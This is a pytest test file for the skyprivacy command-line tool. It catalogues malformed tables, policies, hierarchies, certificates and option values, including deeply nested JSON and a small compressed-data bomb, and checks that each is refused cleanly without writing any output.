"""A catalogue of bad inputs fed to every subcommand that reads a table, a policy, a hierarchy
or a certificate (issue "Publish exactly what the data says", acceptance): each must exit 3
(input) or 2 (usage) with one line naming the file (or, for a usage error, the option) and the
problem, write no output and leave every input unchanged.  Every such subcommand gets at least
40 distinct bad inputs; a sample of them also goes through the installed console script."""
import bz2
import codecs
import gzip
import hashlib
import json
import lzma
import os
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import NamedTuple

import pytest

from skyprivacy.cli import main

GOOD_TABLE = "zip,age,disease\n1*,30,flu\n1*,31,cold\n2*,40,flu\n2*,41,hiv\n"
GOOD_POLICY = "[default]\nskyline = [[0, 0, 0, 0.9]]\n"
GOOD_HIERARCHY = "1*;*\n2*;*\n"
RULES = "g,s,w,d\nF,a,3,0.5\nF,b,1,0.2\nM,a,1,0.4\nM,b,2,0.6\n"
SCRIPT = os.path.join(os.path.dirname(sys.executable), "skyprivacy")
OUTPUTS = ("out.csv", "out.json", "out.html", "out.labels.json", "out.cert.json")


def _bytes(spec) -> bytes:
    return spec if isinstance(spec, bytes) else spec.encode("utf-8")


def _zip(*members) -> bytes:
    import io
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number, member in enumerate(members):
            archive.writestr(f"m{number}.csv", member)
    return buffer.getvalue()


# ----------------------------------------------------------------- tables (every command)
# name -> (content of the table file, what the message must say); None: no such file
TABLES = {
    "missing file": (None, "No such file or directory"),
    "a directory": ("<dir>", "it is a directory"),
    "a dangling symbolic link": ("<dangling>", "No such file or directory"),
    "empty file": ("", "is empty: a CSV table needs a header line"),
    "only a byte-order mark": (b"\xef\xbb\xbf", "is empty: a CSV table needs a header line"),
    "blank lines only": ("\n\n\n", "is empty: a CSV table needs a header line"),
    "header only": ("zip,age,disease\n", "has a header but no rows"),
    "not UTF-8": (b"zip,age,disease\n1*,30,gr\xfcn\n", "is not UTF-8 text"),
    # UTF-16 with its byte-order mark reads (issue 26 item 9); without it, it is named
    "UTF-16 without a byte-order mark": (GOOD_TABLE.encode("utf-16-le"),
                                         "looks like UTF-16 text without a byte-order mark"),
    "a row too long": ("zip,age,disease\n1*,30,flu,extra\n", "more fields than the header"),
    "repeated column": ("zip,zip,disease\n1,2,flu\n", "repeats the column name(s) ['zip']"),
    "empty column name": ("zip,,disease\n1,2,flu\n", "has an empty column name"),
    "blank column name": ("zip, ,disease\n1,2,flu\n", "has an empty column name"),
    "NUL in a cell": ("zip,age,disease\n1*,30,f\x00lu\n", "control character (U+0000)"),
    "escape in a cell": ("zip,age,disease\n1*,30,\x1b[2Jflu\n", "control character (U+001B)"),
    "DEL in a cell": ("zip,age,disease\n1*,30,fl\x7fu\n", "control character (U+007F)"),
    "control character in the header": ("zip,a\x01ge,disease\n1*,30,flu\n",
                                        "control character (U+0001) in its header, "
                                        "column 2"),
    "semicolons": ("zip;age;disease\n1*;30;flu\n", "looks ;-separated; pass --sep ';'"),
    "tabs": ("zip\tage\tdisease\n1*\t30\tflu\n", "looks tab-separated"),
    "truncated gzip": (gzip.compress(GOOD_TABLE.encode())[:20], "cannot be decompressed"),
    "truncated bz2": (bz2.compress(GOOD_TABLE.encode())[:20], "cannot be decompressed"),
    "truncated xz": (lzma.compress(GOOD_TABLE.encode())[:20], "cannot be decompressed"),
    "gzip of nothing": (gzip.compress(b""), "is empty: a CSV table needs a header line"),
    "gzip of a header only": (gzip.compress(b"zip,age,disease\n"), "has a header but no rows"),
    "gzip of non-UTF-8": (gzip.compress(b"zip,age\n\xff\xfe,1\n"), "is not UTF-8 text"),
    "zip of two files": (_zip(GOOD_TABLE, GOOD_TABLE), "zip archive of 2 files"),
    "empty zip archive": (_zip(), "zip archive of 0 files"),
    "Parquet magic, broken": (b"PAR1garbagegarbage", "is not a readable Parquet file"),
    "binary garbage": (bytes(range(256)) * 4, "is not UTF-8 text"),
    "unterminated quote": ('zip,age,disease\n"1*,30,flu\n', "not valid CSV"),
}
TABLE_NAME = {"zip of two files": "bad.zip", "empty zip archive": "bad.zip"}


# ------------------------------------------------------------------------ per command
RELEASE = ["--qi", "zip", "--sensitive", "disease"]
#: the good table's other column (age) copied as it is: every column is classified (issue 26)
REST = ["--keep-rest"]
RULE = ["--public", "g", "--sensitive", "s", "--weight", "w", "--decision", "d"]
TABLE_COMMANDS = {
    "check": lambda t: ["check", t, *RELEASE, *REST, "--policy", "good.toml", "--certificate",
                        "out.json", "--report", "out.html"],
    "anonymize": lambda t: ["anonymize", t, *RELEASE, *REST, "--policy", "good.toml", "--output",
                            "out.csv", "--certificate", "out.json"],
    "find": lambda t: ["find", t, *RELEASE, "--confidence", "0.9", "--output", "out.csv"],
    "compare": lambda t: ["compare", t, *RELEASE, *REST, "--k-anonymity", "2", "--output",
                          "out.csv"],
    "verify": lambda t: ["verify", t, "--certificate", "good.json"],
    "transparency check": lambda t: ["transparency", "check", t, *RULE, "--beta", "0.9",
                                     "--certificate", "out.json"],
    "transparency optimize": lambda t: ["transparency", "optimize", t, *RULE, "--delta", "0.9",
                                        "--output", "out.csv"],
    "transparency verify": lambda t: ["transparency", "verify", t, "--certificate",
                                      "rule.json"],
}
GOOD_INPUT = {"transparency check": "rules.csv", "transparency optimize": "rules.csv",
              "transparency verify": "rules.csv"}


def good(command: str) -> list:
    return TABLE_COMMANDS[command](GOOD_INPUT.get(command, "good.csv"))


def replaced(argv: list, old: str, new: str) -> list:
    return [new if a == old else a for a in argv]


def without(argv: list, option: str, count: int = 1) -> list:
    i = argv.index(option)
    return argv[:i] + argv[i + 1 + count:]


# Faults of one command: name -> (files to write, argv, what names the file or option, says)
def _common(command: str) -> dict:
    """Usage faults every table-reading command shares."""
    argv = good(command)
    table = GOOD_INPUT.get(command, "good.csv")
    return {
        "an unknown option": ({}, [*argv, "--bogus"], "--bogus", "unrecognized arguments"),
        "no table": ({}, [a for a in argv if a != table], "table", "required"),
        "--format xml": ({}, [*argv, "--format", "xml"], "--format", "invalid choice: 'xml'"),
        "--input-format xls": ({}, [*argv, "--input-format", "xls"], "--input-format",
                               "invalid choice: 'xls'"),
        "a two-character separator": ({}, [*argv, "--sep", ";;"], "--sep",
                                      "must be one character"),
        "an empty separator": ({}, [*argv, "--sep", ""], "--sep", "must be one character"),
        "a value for a switch": ({}, [*argv, "--progress=yes"], "--progress",
                                 "ignored explicit argument"),
        "--input-format parquet for a CSV": ({}, [*argv, "--input-format", "parquet"], table,
                                             "is not a readable Parquet file"),
    }


def _outputs(command: str, flag: str, extra: str | None = None) -> dict:
    """Faults of an output option: a missing folder, a folder, the input itself, an existing
    file, a read-only folder (/sys: no file can be created there, not even by root)."""
    argv = good(command)
    target = argv[argv.index(flag) + 1]
    table = GOOD_INPUT.get(command, "good.csv")
    faults = {
        f"{flag} in a missing folder": ({}, replaced(argv, target, "nodir/out.x"),
                                        "nodir/out.x", "does not exist"),
        f"{flag} is a folder": ({"outdir": "<dir>"}, replaced(argv, target, "outdir"),
                                "outdir", "it is a directory"),
        f"{flag} over the input": ({}, replaced(argv, target, table), table,
                                   "would overwrite the input"),
        f"{flag} exists": ({"old.out": "keep"}, replaced(argv, target, "old.out"), "old.out",
                           "already exists; pass --force"),
        f"{flag} in a read-only folder": ({}, replaced(argv, target, "/sys/out.x"),
                                          "/sys/out.x", "is not writable"),
    }
    if extra:
        faults[f"{flag} and {extra} on one file"] = (
            {}, [*argv, extra, target], target, "name the same file")
    return faults


POLICIES = {
    "missing policy": (None, "No such file or directory"),
    "a policy that is a folder": ("<dir>", "it is a directory"),
    "empty policy": ("", "skyline"),
    "not TOML": ("[default\nskyline = 3\n", "not valid TOML"),
    "not UTF-8": (b"[default]\nskyline = [[0, 0, 0, 0.9]] # \xff\n", "not UTF-8"),
    "negative l": ("[default]\nskyline = [[-1, 0, 0, 0.9]]\n", "-1"),
    "c above 1": ("[default]\nskyline = [[0, 0, 0, 1.5]]\n", "1.5"),
    "c of 0": ("[default]\nskyline = [[0, 0, 0, 0]]\n", "c"),
    "c as text": ('[default]\nskyline = [[0, 0, 0, "high"]]\n', "high"),
    "fractional k": ("[default]\nskyline = [[0, 1.5, 0, 0.9]]\n", "1.5"),
    "points not a list": ("[default]\nskyline = 3\n", "skyline"),
    "no points": ("[default]\nskyline = []\n", "skyline"),
    "a point of three numbers": ("[default]\nskyline = [[0, 0, 0]]\n", "[0, 0, 0]"),
    "an unknown section": ("[defaults]\nskyline = [[0, 0, 0, 0.9]]\n", "defaults"),
    "nested 100,000 deep": ("[default]\nskyline = " + "[" * 100_000 + "]" * 100_000 + "\n",
                            "nests arrays or objects 100000 levels deep; at most 100"),
    "a section without skyline": ("[default]\npoints = [[0, 0, 0, 0.9]]\n", "skyline"),
    "unknown value": ('[values.ebola]\nskyline = [[0, 0, 0, 0.9]]\n', "ebola"),
}
HIERARCHIES = {
    "missing hierarchy": (None, "No such file or directory"),
    "a hierarchy that is a folder": ("<dir>", "it is a directory"),
    "unequal depths": ("1*;1;*\n2*;*\n", "zip"),
    "a value with two parents": ("1*;a;*\n1*;b;*\n2*;b;*\n", "1*"),
    "does not cover the data": ("1*;*\n", "2*"),
    "empty hierarchy": ("", "zip"),
    "two roots": ("1*;a\n2*;b\n", "zip"),
    "not UTF-8 hierarchy": (b"1*;\xff\n2*;*\n", "not UTF-8"),
}
# --hierarchy shortcuts built from the data: faults of N and WIDTH, and of the data
SHORTCUTS = {
    "mask:0": ("zip=mask:0", "--hierarchy", "mask:N needs a whole number N >= 1"),
    "mask:-1": ("zip=mask:-1", "--hierarchy", "mask:N needs a whole number N >= 1"),
    "mask:x": ("zip=mask:x", "--hierarchy", "mask:N needs a whole number N >= 1"),
    "mask:1.5": ("zip=mask:1.5", "--hierarchy", "mask:N needs a whole number N >= 1"),
    "mask without N": ("zip=mask:", "--hierarchy", "mask:N needs a whole number N >= 1"),
    "mask beyond the code length": ("zip=mask:3", "--hierarchy zip=mask:3",
                                    "masks 3 characters, but the codes of column 'zip' in "
                                    "'good.csv' have 2"),
    "intervals:0": ("age=intervals:0", "--hierarchy", "needs positive decimal widths"),
    "intervals:-5": ("age=intervals:-5", "--hierarchy", "needs positive decimal widths"),
    "intervals:abc": ("age=intervals:abc", "--hierarchy", "needs positive decimal widths"),
    "intervals:nan": ("age=intervals:nan", "--hierarchy", "needs positive decimal widths"),
    "intervals:inf": ("age=intervals:inf", "--hierarchy", "needs positive decimal widths"),
    "intervals without a width": ("age=intervals:", "--hierarchy",
                                  "needs positive decimal widths"),
    "intervals:5,12": ("age=intervals:5,12", "--hierarchy",
                       "12 is not a larger multiple of 5"),
    "intervals:10,5": ("age=intervals:10,5", "--hierarchy", "5 is not a larger multiple of 10"),
    "intervals of codes": ("zip=intervals:10", "good.csv",
                           "--hierarchy zip=intervals:10 needs finite numbers in column 'zip'"),
    "mask of codes of two lengths": ("zip=mask:1", "codes.csv",
                                     "--hierarchy zip=mask:1 needs codes of one length in "
                                     "column 'zip'; '1*' has 2 character(s) but '123' has 3"),
    "a shortcut for a column not in --qi": ("disease=mask:1", "--hierarchy",
                                            "not in --qi"),
    "no source": ("zip=", "--hierarchy", "expected COLUMN=SOURCE"),
}
ORDERS = {
    "an unknown rule": (["--order", "up"], "--order", "expected first, sorted"),
    "a column not in --qi": (["--order", "sex=first"], "--order", "not in --qi"),
    "an order for a number column": (["--qi", "zip,age", "--order", "age=first"], "good.csv",
                                      "which is split as numbers"),
    "a value twice": (["--order", "zip=1*,1*,2*"], "--order", "'1*' is listed twice"),
    "an empty value": (["--order", "zip=1*,,2*"], "--order", "an empty value"),
    "a value missing": (["--order", "zip=1*"], "good.csv", "does not list 1 value(s) of 'zip'"),
    "both forms": (["--order", "first", "--order", "zip=first"], "--order", "not both"),
    "a rule twice": (["--order", "first", "--order", "sorted"], "--order", "given twice"),
    "a column twice": (["--order", "zip=first", "--order", "zip=sorted"], "--order",
                       "given twice for 'zip'"),
    "a negative label length": (["--label-length", "-1"], "--label-length",
                                "must be at least 0"),
    "a label length that is no number": (["--label-length", "x"], "--label-length",
                                         "expected an integer"),
}
CERTIFICATES = {
    "missing certificate": (None, "No such file or directory"),
    "a certificate that is a folder": ("<dir>", "it is a directory"),
    "empty certificate": ("", "not valid JSON"),
    "not JSON": ("{not json", "not valid JSON"),
    "not UTF-8 certificate": (b'{"a": "\xff"}', "not UTF-8"),
    "a JSON array": ("[1, 2]", "not a JSON object"),
    "nested 100,000 deep": ("[" * 100_000 + "]" * 100_000,
                            "nests arrays or objects 100000 levels deep; at most 100"),
    "wrong kind": ('{"kind": "x", "schema_version": 1}', "malformed"),
    "unknown version": ({"schema_version": 99}, "schema_version 99 is not supported"),
    "missing fields": ('{"schema_version": 1}', "missing field(s)"),
    "no table hash": ({"table": {}}, "'table.sha256' is missing"),
    "an unknown canonical form": ({"table": {"sha256": "0" * 64, "canonical_form": "x"}},
                                  "canonical form 'x' is not supported"),
}
# faults of a table certificate's own fields (verify)
TABLE_CERTIFICATES = {
    "no sensitive column": ({"parameters": {"qi": ["zip"], "semantics": "svpi"}},
                            "'parameters.sensitive' is missing"),
    "an unknown semantics": ({"parameters": {"qi": ["zip"], "sensitive": "disease",
                                             "semantics": "xpi"}}, "semantics"),
    "both qi and group": ({"parameters": {"qi": ["zip"], "group": "g", "sensitive": "disease",
                                          "individual": None, "semantics": "svpi"}},
                          "exactly one of"),
    "a policy that does not parse": ({"policy": {"default": [[0, 0, 0, 7]]}},
                                     "its policy is invalid"),
    "checks not a list": ({"checks": {}}, "'checks' must be a list of objects"),
    "a check without l": ({"checks": [{"value": "flu"}]}, "a check has no 'l'"),
    "an unknown verdict": ({"verdict": "fine"}, "'verdict' must be 'safe' or 'unsafe'"),
    "an unknown text normalization": ({"normalization": {"unicode": "NFKC"}},
                                      "'normalization' must be {'unicode': 'NFC'"),
    "a null text normalization": ({"normalization": None}, "'normalization' must be an object"),
    "a malformed labels record": ({"labels": {"file": 3}}, "'labels' must be null or an "
                                                           "object"),
    "a set-label file that is missing": ({"labels": {"file": "gone.labels.json",
                                                     "sha256": "0" * 64}},
                                         "Cannot read set-label file 'gone.labels.json'"),
    "a set-label file that is a folder": ({"labels": {"file": "outdir", "sha256": "0" * 64}},
                                          "Cannot read set-label file 'outdir': it is a "
                                          "directory"),
}
# faults of a rule certificate's own fields (transparency verify)
RULE_CERTIFICATES = {
    "a rule certificate of the table kind": ({"kind": "skyprivacy.certificate"}, "malformed"),
    "no parameters": ({"parameters": None}, "malformed"),
}
TRANSPARENCY = {
    "a missing public column": (["--public", "gender"], "rules.csv", "'gender'"),
    "a missing sensitive column": (["--sensitive", "income"], "rules.csv", "'income'"),
    "a missing weight column": (["--weight", "weight"], "rules.csv", "'weight'"),
    "a missing decision column": (["--decision", "p"], "rules.csv", "'p'"),
    "a weight that is text": (["--weight", "g"], "rules.csv", "must hold numbers"),
    "a decision that is text": (["--decision", "s"], "rules.csv", "must hold numbers"),
    "a missing weight": ({"rules.csv": RULES.replace("F,a,3,", "F,a,,")}, "rules.csv",
                         "missing"),
    "an empty column list": (["--public", ","], "--public", "expected comma-separated"),
    "a column named twice": (["--public", "g,g"], "--public", "named twice"),
}
SCHEMA = {
    "no sensitive column": ("zip,age,illness\n1*,30,flu\n2*,40,flu\n", "'disease'"),
    "no QI column": ("zap,age,disease\n1*,30,flu\n2*,40,flu\n", "'zip'"),
    "missing sensitive value": ("zip,age,disease\n1*,30,\n2*,40,flu\n", "missing"),
    "missing QI value": ("zip,age,disease\n,30,flu\n2*,40,flu\n", "missing"),
    "an NA marker": ("zip,age,disease\nNA,30,flu\n2*,40,flu\n", "missing"),
    "a short row": ("zip,age,disease\n1*,30\n2*,40,flu\n", "missing"),
}
RELEASE_USAGE = {
    "--sensitive among --qi": (["--qi", "zip,disease"], "disease", ""),
    "a QI named twice": (["--qi", "zip,zip"], "--qi", "named twice"),
    "an empty QI list": (["--qi", ","], "--qi", "expected comma-separated"),
    "an unknown semantics": (["--semantics", "xpi"], "--semantics", "invalid choice"),
    "no --sensitive": (None, "--sensitive", "required"),
}


def _faults_for_release_commands(command: str) -> dict:
    faults = {}
    argv = good(command)
    for name, (content, says) in SCHEMA.items():
        faults[name] = ({"bad.csv": content}, replaced(argv, "good.csv", "bad.csv"), "bad.csv",
                        says)
    for name, (change, named, says) in RELEASE_USAGE.items():
        if change is None:
            faults[name] = ({}, without(argv, "--sensitive"), named, says)
        else:
            faults[name] = ({}, with_option(argv, *change), named, says)
    return faults


def with_option(argv: list, option: str, value: str) -> list:
    """argv with ``option`` set to ``value`` (replaced, or added)."""
    if option not in argv:
        return [*argv, option, value]
    i = argv.index(option)
    return argv[:i + 1] + [value] + argv[i + 2:]


def _file_faults(command: str, option: str, catalogue: dict, name: str) -> dict:
    argv = good(command)
    faults = {}
    for fault, (spec, says) in catalogue.items():
        changed = replaced(argv, argv[argv.index(option) + 1], name)
        faults[fault] = ({name: spec} if spec is not None else {}, changed, name, says)
    return faults


def _hierarchy_faults(command: str) -> dict:
    argv = good(command)
    faults = {}
    for fault, (spec, says) in HIERARCHIES.items():
        files = {"bad-hierarchy.csv": spec} if spec is not None else {}
        faults[fault] = (files, [*argv, "--hierarchy", "zip=bad-hierarchy.csv"],
                         "bad-hierarchy.csv", says)
    faults["a hierarchy given twice"] = ({}, [*argv, "--hierarchy", "zip=zip.csv",
                                              "--hierarchy", "zip=zip.csv"], "--hierarchy",
                                         "given twice for 'zip'")
    faults["an unknown bundled hierarchy"] = ({}, [*argv, "--hierarchy", "zip=bundled:adult"],
                                              "bundled:adult", "zip")
    for fault, (spec, named, says) in SHORTCUTS.items():
        table = "codes.csv" if named == "codes.csv" else "good.csv"
        files = {"codes.csv": "zip,age,disease\n1*,30,flu\n123,31,cold\n"} \
            if table == "codes.csv" else {}
        faults[fault] = (files, [*replaced(argv, "good.csv", table), "--hierarchy", spec],
                         named, says)
    for fault, (extra, named, says) in ORDERS.items():
        faults[f"order: {fault}"] = ({}, [*argv, *extra], named, says)
    faults["--numeric for codes"] = ({}, [*argv, "--numeric", "zip"], "good.csv",
                                     "declared numeric")
    faults["--categorical not in --qi"] = ({}, [*argv, "--categorical", "sex"], "--categorical",
                                           "not in --qi")
    faults["--split sideways"] = ({}, [*argv, "--split", "sideways"], "--split",
                                  "invalid choice")
    return faults


def _certificate_faults(command: str, base: str) -> dict:
    """Faults of the certificate file; dict specs are merged into a good certificate."""
    faults = {}
    table = GOOD_INPUT.get(command, "good.csv")
    for fault, (spec, says) in {**CERTIFICATES,
                                **(TABLE_CERTIFICATES if command == "verify" else
                                   RULE_CERTIFICATES)}.items():
        argv = [*TABLE_COMMANDS[command](table)]
        argv = replaced(argv, base, "bad.json")
        files = {"bad.json": ("<merge>", base, spec) if isinstance(spec, dict) else spec} \
            if spec is not None else {}
        named = "bad.json"
        if fault == "a set-label file that is missing":
            named = "gone.labels.json"
        elif fault == "a set-label file that is a folder":
            named, files["outdir"] = "outdir", "<dir>"
        faults[fault] = (files, argv, named, says)
    return faults


def catalogue() -> dict:
    """command -> {fault -> (files, argv, named, says)}."""
    out = {}
    for command in TABLE_COMMANDS:
        faults = {}
        for fault, (spec, says) in TABLES.items():
            name = TABLE_NAME.get(fault, "bad.csv")
            faults[f"table: {fault}"] = ({name: spec} if spec is not None else {},
                                         TABLE_COMMANDS[command](name), name, says)
        faults.update(_common(command))
        out[command] = faults
    for command in ("check", "anonymize", "find", "compare"):
        out[command].update(_faults_for_release_commands(command))
    for command in ("check", "anonymize"):
        out[command].update({f"policy: {k}": v for k, v in
                             _file_faults(command, "--policy", POLICIES, "bad.toml").items()})
    for command in ("anonymize", "compare"):
        out[command].update({f"hierarchy: {k}": v for k, v in _hierarchy_faults(command).items()})
    out["check"].update(_outputs("check", "--certificate", "--report"))
    out["check"].update(_outputs("check", "--report"))
    out["check"]["a confidence above 1 for the report"] = (
        {}, [*good("check"), "--report-confidence", "1.5"], "--report-confidence", "(0, 1]")
    out["check"]["--qi and --group"] = ({}, [*good("check"), "--group", "zip"], "--group",
                                        "not allowed with argument --qi")
    out["anonymize"].update(_outputs("anonymize", "--output", "--certificate"))
    out["anonymize"].update(_outputs("anonymize", "--certificate"))
    out["anonymize"]["--labels with --bucketized"] = (
        {}, [*good("anonymize"), "--bucketized", "--labels", "x.json"], "--labels",
        "no use with --bucketized")
    out["anonymize"]["--labels on the output"] = (
        {}, [*good("anonymize"), "--labels", "out.csv"], "out.csv", "name the same file")
    out["anonymize"]["an existing set-label file"] = (
        {"out.labels.json": "keep"}, good("anonymize"), "out.labels.json",
        "already exists; pass --force")
    out["find"].update(_outputs("find", "--output"))
    out["find"].update({
        "a confidence of 0": ({}, replaced(good("find"), "0.9", "0"), "--confidence",
                              "(0, 1]"),
        "a confidence of 1.5": ({}, replaced(good("find"), "0.9", "1.5"), "--confidence",
                                "(0, 1]"),
        "a confidence that is text": ({}, replaced(good("find"), "0.9", "high"),
                                      "--confidence", "expected a number"),
        "no confidence": ({}, without(good("find"), "--confidence"), "--confidence",
                          "required"),
        "a negative --top": ({}, [*good("find"), "--top", "-1"], "--top", "at least 0"),
        "an unknown value": ({}, [*good("find"), "--values", "ebola"], "good.csv", "ebola"),
        "an empty value": ({}, [*good("find"), "--values", "flu,"], "--values",
                           "expected comma-separated"),
    })
    out["compare"].update(_outputs("compare", "--output", "--labels"))
    out["compare"].update({
        "k of 1": ({}, replaced(good("compare"), "2", "1"), "--k-anonymity", "at least 2"),
        "k that is text": ({}, replaced(good("compare"), "2", "two"), "--k-anonymity",
                           "expected an integer"),
        "k and l": ({}, [*good("compare"), "--l-diversity", "2"], "--l-diversity",
                    "not allowed with argument --k-anonymity"),
        "neither k nor l": ({}, without(good("compare"), "--k-anonymity"), "--k-anonymity",
                            "required"),
        "a diversity c of 0": ({}, [*without(good("compare"), "--k-anonymity"),
                                    "--l-diversity", "2", "--diversity-c", "0"],
                               "--diversity-c", "> 0"),
        "--labels without --output": ({}, [*without(good("compare"), "--output"),
                                           "--labels", "x.json"], "--labels", "needs --output"),
        "an unknown value": ({}, [*good("compare"), "--values", "ebola"], "good.csv",
                             "ebola"),
    })
    out["verify"].update(_certificate_faults("verify", "good.json"))
    out["transparency verify"].update(_certificate_faults("transparency verify", "rule.json"))
    out["transparency verify"]["a missing rule table"] = (
        {}, [*good("transparency verify"), "--rule", "gone.csv"], "gone.csv",
        "No such file or directory")
    out["transparency verify"]["a rule table that is a folder"] = (
        {"outdir": "<dir>"}, [*good("transparency verify"), "--rule", "outdir"], "outdir",
        "it is a directory")
    for command in ("transparency check", "transparency optimize"):
        argv = good(command)
        for fault, (change, named, says) in TRANSPARENCY.items():
            if isinstance(change, dict):
                out[command][fault] = (change, argv, named, says)
            else:
                out[command][fault] = ({}, with_option(argv, *change), named, says)
    out["transparency check"].update(_outputs("transparency check", "--certificate"))
    out["transparency check"].update({
        "beta of 0": ({}, replaced(good("transparency check"), "0.9", "0"), "--beta",
                      "(0, 1]"),
        "beta above 1": ({}, replaced(good("transparency check"), "0.9", "2"), "--beta",
                         "(0, 1]"),
        "beta and gamma": ({}, [*good("transparency check"), "--gamma", "0.1"], "--gamma",
                           "not allowed with argument --beta"),
        "a negative gamma": ({}, [*without(good("transparency check"), "--beta"), "--gamma",
                                  "-1"], "--gamma", ">= 0"),
        "an announced column that is missing": ({}, [*good("transparency check"),
                                                     "--announced", "d_tilde"], "rules.csv",
                                                "'d_tilde'"),
    })
    out["transparency optimize"].update(_outputs("transparency optimize", "--output"))
    out["transparency optimize"].update({
        "delta above 1": ({}, replaced(good("transparency optimize"), "0.9", "2"), "--delta",
                          "[0, 1]"),
        "alpha and delta": ({}, [*good("transparency optimize"), "--alpha", "0.5"],
                            "--alpha", "not allowed with argument --delta"),
        "a certificate without --output": ({}, [*without(good("transparency optimize"),
                                                         "--output"), "--certificate",
                                                "x.json"], "--certificate", "needs --output"),
    })
    return out


CATALOGUE = catalogue()
CASES = [(command, fault) for command, faults in CATALOGUE.items() for fault in faults]


@pytest.fixture(scope="module")
def good_files(tmp_path_factory) -> dict:
    """The good inputs, with a certificate of good.csv and one of rules.csv (made once)."""
    folder = tmp_path_factory.mktemp("good")
    (folder / "good.csv").write_text(GOOD_TABLE)
    (folder / "good.toml").write_text(GOOD_POLICY)
    (folder / "zip.csv").write_text(GOOD_HIERARCHY)
    (folder / "rules.csv").write_text(RULES)
    assert main(["check", str(folder / "good.csv"), "--qi", "zip", "--sensitive", "disease",
                 *REST, "--policy", str(folder / "good.toml"), "--certificate",
                 str(folder / "good.json"), "-q"]) == 0
    assert main(["transparency", "check", str(folder / "rules.csv"), *RULE, "--beta", "0.9",
                 "--certificate", str(folder / "rule.json"), "-q"]) in (0, 1)
    return {path.name: path.read_bytes() for path in folder.iterdir()}


@pytest.fixture
def folder(tmp_path, monkeypatch, good_files):
    monkeypatch.chdir(tmp_path)
    for name, data in good_files.items():
        (tmp_path / name).write_bytes(data)
    return tmp_path


def _write(folder: Path, name: str, spec) -> None:
    path = folder / name
    if spec == "<dir>":
        path.mkdir()
    elif spec == "<dangling>":
        path.symlink_to(folder / "nowhere.csv")
    elif isinstance(spec, tuple) and spec[0] == "<append>":  # a raw JSON member, added
        text = (folder / spec[1]).read_text().rstrip().removesuffix("}")
        path.write_text(f"{text}, {spec[2]}}}")
    elif isinstance(spec, tuple) and spec[0] == "<merge>":
        data = json.loads((folder / spec[1]).read_text())
        data.update(spec[2])
        path.write_text(json.dumps(data))
    else:
        path.write_bytes(_bytes(spec))


def _snapshot(folder: Path) -> dict:
    out = {}
    for path in sorted(folder.rglob("*")):
        if path.is_file():
            out[str(path.relative_to(folder))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def _assert_refused(folder, code, err, argv, named, says, before):
    assert code in (2, 3), (argv, code, err)
    lines = err.strip().splitlines()
    assert len(lines) == 1, (argv, err)
    assert named in lines[0], (argv, named, err)
    assert says in lines[0], (argv, says, err)
    assert not any((folder / o).exists() for o in OUTPUTS if f"{o}" not in before), argv
    assert _snapshot(folder) == before  # nothing changed, nothing written, no temporary file


@pytest.mark.parametrize("command,fault", CASES, ids=[f"{c}: {f}" for c, f in CASES])
def test_a_bad_input_is_refused_in_one_line_and_writes_nothing(folder, capsys, command, fault):
    files, argv, named, says = CATALOGUE[command][fault]
    for name, spec in files.items():
        _write(folder, name, spec)
    before = _snapshot(folder)
    code = main(list(argv))
    err = capsys.readouterr().err
    _assert_refused(folder, code, err, argv, named, says, before)


@pytest.mark.parametrize("command", sorted(TABLE_COMMANDS))
def test_every_command_that_reads_files_gets_at_least_40_distinct_bad_inputs(command):
    faults = CATALOGUE[command]
    assert len(faults) >= 40, (command, len(faults))
    distinct = {json.dumps([sorted((k, repr(v)) for k, v in files.items()), argv])
                for files, argv, _, _ in faults.values()}
    assert len(distinct) == len(faults)  # no two faults are the same input


@pytest.mark.parametrize("command", sorted(TABLE_COMMANDS))
def test_the_good_inputs_the_faults_start_from_are_accepted(folder, capsys, command):
    """Each fault changes one thing in a command that succeeds."""
    assert main([*good(command), "-q"]) in (0, 1), capsys.readouterr().err


# one fault of each kind, through the installed console script
SCRIPT_SAMPLE = [("anonymize", "table: NUL in a cell"), ("check", "policy: not TOML"),
                 ("compare", "hierarchy: mask:0"), ("anonymize", "hierarchy: intervals:5,12"),
                 ("anonymize", "hierarchy: intervals of codes"),
                 ("anonymize", "hierarchy: order: a value missing"),
                 ("verify", "unknown version"), ("verify", "a set-label file that is missing"),
                 ("transparency verify", "a JSON array"), ("find", "--output exists"),
                 ("transparency optimize", "--output in a read-only folder"),
                 ("check", "an unknown option"), ("verify", "nested 100,000 deep"),
                 ("check", "policy: nested 100,000 deep")]


@pytest.mark.parametrize("command,fault", SCRIPT_SAMPLE)
def test_through_the_console_script(folder, command, fault):
    files, argv, named, says = CATALOGUE[command][fault]
    for name, spec in files.items():
        _write(folder, name, spec)
    before = _snapshot(folder)
    done = subprocess.run([SCRIPT, *argv], cwd=folder, capture_output=True, text=True,
                          timeout=120)
    assert done.stdout == ""
    _assert_refused(folder, done.returncode, done.stderr, argv, named, says, before)


# ==================================================================== issue 26, on the script
# The bad inputs and faults of issue "Nothing released unexamined" (items 5, 7 and 9), each
# through the installed console script.  A case is *refused* (its exit code, one stderr line
# naming the file or option and the problem, nothing on stdout, nothing written, every input
# unchanged) or *answered* (an input that used to crash now gets its answer: the exit code, the
# answer on stdout, at most the one expected warning on stderr, only the outputs asked for
# written, every input unchanged).  The selected cases start together, a few at a time (one
# module fixture), since each is a process of its own.
class Script(NamedTuple):
    refused: bool
    files: dict  # name -> content (as _write takes it), written over the good files
    argv: list
    code: int
    named: str  # refused: in the stderr line; answered: on stdout
    says: str  # refused: in the stderr line; answered: the warning line ('' for none)
    env: tuple = ()  # (name, value) pairs
    writes: tuple = ()  # answered: the outputs the run writes


def refused(files, argv, named, says, code=3, env=()) -> Script:
    return Script(True, files, list(argv), code, named, says, tuple(env))


def answered(files, argv, code, stdout, warning="", writes=()) -> Script:
    return Script(False, files, [*argv, "-q"], code, stdout, warning, (), tuple(writes))


def _pack(kind: str, data: bytes) -> bytes:
    if kind == "zip":
        return _zip(data)
    return {"gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress}[kind](data)


BIG = 200_000  # characters: over the csv module's 128 KiB field limit
BOMB = b"zip,age,disease\n" + b"1*,30,flu\n" * 200_000  # 2 MB that compress to a few KiB
LIMIT = (("SKYPRIVACY_MAX_DECOMPRESSED", "1M"),)
TINY = {"1e-320": "1e-320", "'1e-400'": '"1e-400"', "1/10^300": f'"1/1{"0" * 300}"'}
TINY_ARG = {"1e-320": "1e-320", "'1e-400'": "1e-400", "1/10^300": f"1/1{'0' * 300}"}
DEEP_OBJECTS = '{"a":' * 100_000 + "1" + "}" * 100_000
